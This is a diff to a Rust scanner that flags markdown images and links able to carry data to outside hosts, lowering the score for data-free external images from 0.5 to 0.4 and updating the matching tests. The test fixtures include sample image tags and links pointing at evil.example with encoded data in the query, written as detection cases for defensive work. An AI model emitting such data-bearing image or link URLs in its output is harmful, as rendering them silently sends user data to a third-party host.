@@ -14,7 +14,7 @@ use regex::Regex;
 
 /// A markdown image or HTML `<img>` loading from a host outside `allow_domains`: 0.9 when
 /// its URL carries data in the query, fragment, host or a placeholder, 0.8 when only a path
-/// segment looks like an encoded blob, 0.5 when it carries nothing (rendering it still
+/// segment looks like an encoded blob, 0.4 when it carries nothing (rendering it still
 /// tells the host that, and when, the text was shown).
 pub const MARKDOWN_IMAGE: &str = "exfil.markdown_image";
 /// A markdown link to a host outside `allow_domains` whose URL carries data: 0.7, or 0.6
@@ -35,7 +35,8 @@ pub struct ExfilConfig {
     /// Domains that images and links may point to without a finding, even when their URL
     /// carries data. Lower-case host names without scheme, port or path: `example.com`
     /// matches it and every subdomain, `*.example.com` only the subdomains. Empty: every
-    /// external image is reported (score 0.5 when its URL carries no data).
+    /// external image is reported (score 0.4 when its URL carries no data, below a
+    /// profile's default `min_score`: README badges are images from other domains).
     pub allow_domains: Vec<String>,
 }
 
@@ -358,7 +359,7 @@ impl ExfilScanner {
         let score = match (image, data) {
             (true, Data::Strong) => 0.9,
             (true, Data::Weak) => 0.8,
-            (true, Data::None) => 0.5,
+            (true, Data::None) => 0.4,
             (false, Data::Strong) => 0.7,
             (false, Data::Weak) => 0.6,
             (false, Data::None) => return,
@@ -735,7 +736,7 @@ mod tests {
         let s = scanner(&[]);
         assert_eq!(
             scan(&s, "![cat](https://cats.example/cat.jpg)"),
-            [(MARKDOWN_IMAGE.into(), "![cat](https://cats.example/cat.jpg)".into(), 0.5)]
+            [(MARKDOWN_IMAGE.into(), "![cat](https://cats.example/cat.jpg)".into(), 0.4)]
         );
         // Allowed domain carrying data is fine.
         let s = scanner(&["trusted.example"]);
@@ -755,7 +756,7 @@ mod tests {
             )]
         );
         assert_eq!(ids(&s, "<IMG\nalt='x' SRC='//evil.example/a.png?x=0123456789abcdef0'>"), [MARKDOWN_IMAGE]);
-        assert_eq!(scan(&s, "<img src=https://evil.example/a.png>")[0].2, 0.5);
+        assert_eq!(scan(&s, "<img src=https://evil.example/a.png>")[0].2, 0.4);
         assert!(ids(&s, r#"<img src="https://github.com/o/r/raw/main/logo.png" alt="logo">"#).is_empty());
         assert!(ids(&s, r#"<img src="logo.png"> <imgur> <img"#).is_empty());
     }
@@ -777,7 +778,7 @@ mod tests {
         assert!(ids(&s, "[sort](https://example.org/list?sort=createdAtDescending)").is_empty());
         // A linked image: the image is reported, the link (no data) is not.
         let text = "[![b](https://evil.example/b.svg)](https://example.org/)";
-        assert_eq!(scan(&s, text), [(MARKDOWN_IMAGE.into(), "![b](https://evil.example/b.svg)".into(), 0.5)]);
+        assert_eq!(scan(&s, text), [(MARKDOWN_IMAGE.into(), "![b](https://evil.example/b.svg)".into(), 0.4)]);
         let text = "[![b](https://github.com/b.svg)](https://evil.example/?k=0123456789abcdef0123)";
         assert_eq!(scan(&s, text), [(MARKDOWN_LINK.into(), text.into(), 0.7)]);
     }
